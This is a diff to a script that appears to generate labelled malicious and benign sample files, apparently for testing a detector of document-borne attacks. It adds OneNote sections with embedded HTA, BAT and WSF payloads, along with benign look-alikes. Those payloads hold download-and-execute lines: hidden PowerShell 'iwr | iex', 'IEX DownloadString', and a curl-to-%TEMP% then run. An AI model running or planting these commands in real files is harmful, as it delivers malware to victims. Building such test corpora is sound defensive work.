@@ -205,6 +205,35 @@ for k in list(M2) + list(ooxmls) + list(pdfs):
     cls, name = k.split("/")
     rows.append("%s\t%s\t%s" % (cls, "T1204.002" if name.startswith("launch") else IDS2[cls], name))
 
+# ---- OneNote sections with attached files ([MS-ONESTORE]: the section GUID first; an attached
+# file as a FileDataStoreObject, its name a UTF-16LE property), as the 2023 campaigns sent them
+ONE_SECTION = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
+ONE_FILE = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
+ONE_FOOTER = bytes.fromhex("22a7fb71790f0b4abb13899256426b24")
+
+
+def onenote(name, data):
+    data = data.encode() if isinstance(data, str) else data
+    label = name.encode("utf-16-le")
+    body = ONE_SECTION + bytes(1008) + len(label).to_bytes(4, "little") + label + bytes(12)
+    fdso = ONE_FILE + len(data).to_bytes(8, "little") + bytes(12) + data
+    fdso += bytes(-len(fdso) % 8) + ONE_FOOTER
+    return body + bytes(-len(body) % 8) + fdso + bytes(256)
+
+
+HTA = ("<html><head><hta:application id=\"a\" windowstate=\"minimize\"/><script language=\"VBScript\">\n"
+       "CreateObject(\"WScript.Shell\").Run \"powershell -w hidden -c iwr %s/p.ps1 | iex\", 0\nself.close\n"
+       "</script></head></html>\n" % U)
+ONE = {
+    "invoice-hta.one": onenote("invoice.hta", HTA),
+    "open-bat.one": onenote("open.bat", "@echo off\r\npowershell -ep bypass -c \"IEX (New-Object Net.WebClient).DownloadString('%s')\"\r\n" % U),
+    "scan-wsf.one": onenote("scan.wsf", "<job><script language=\"JScript\">new ActiveXObject(\"WScript.Shell\").Run(\"cmd /c curl -o %%TEMP%%\\\\a.exe %s & %%TEMP%%\\\\a.exe\");</script></job>\n" % U),
+    "doc-exe.one": onenote("Document.exe", b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0" + bytes(200)),
+}
+for k, v in ONE.items():
+    w(os.path.join(out, "malicious", "onenote", k), v)
+    rows.append("onenote\tT1204.002\t%s" % k)
+
 # ---- benign look-alikes: a document made from a local template, hyperlinks (one to a share,
 # which needs a click), shortcuts to a web site and to a local file, PDF links to the web and
 # to a local file, a PDF with an ordinary attachment
@@ -228,6 +257,8 @@ w(f"{bout}/link.pdf", pdf_b(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pag
 w(f"{bout}/goto-local.pdf", pdf_b(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] >>", "<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /GoToR /F (chapter2.pdf) /D [0 /Fit] >> >>"]))
 data = "name,amount\nrent,700\nfood,300\n"
 w(f"{bout}/attachment.pdf", pdf_b(["<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(budget.csv) 5 0 R] >> >> /PageMode /UseAttachments >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>", f"<< /Type /EmbeddedFile /Subtype /text#2Fcsv /Length {len(data)} >>\nstream\n{data}\nendstream", "<< /Type /Filespec /F (budget.csv) /UF (budget.csv) /EF << /F 4 0 R >> /Desc (the figures) >>"]))
+w(f"{bout}/minutes-png.one", onenote("whiteboard.png", b"\x89PNG\r\n\x1a\n" + bytes(300)))
+w(f"{bout}/minutes-csv.one", onenote("budget.csv", data))
 
 with open(os.path.join(out, "manifest.tsv"), "w") as f:
     f.write("\n".join(rows) + "\n")
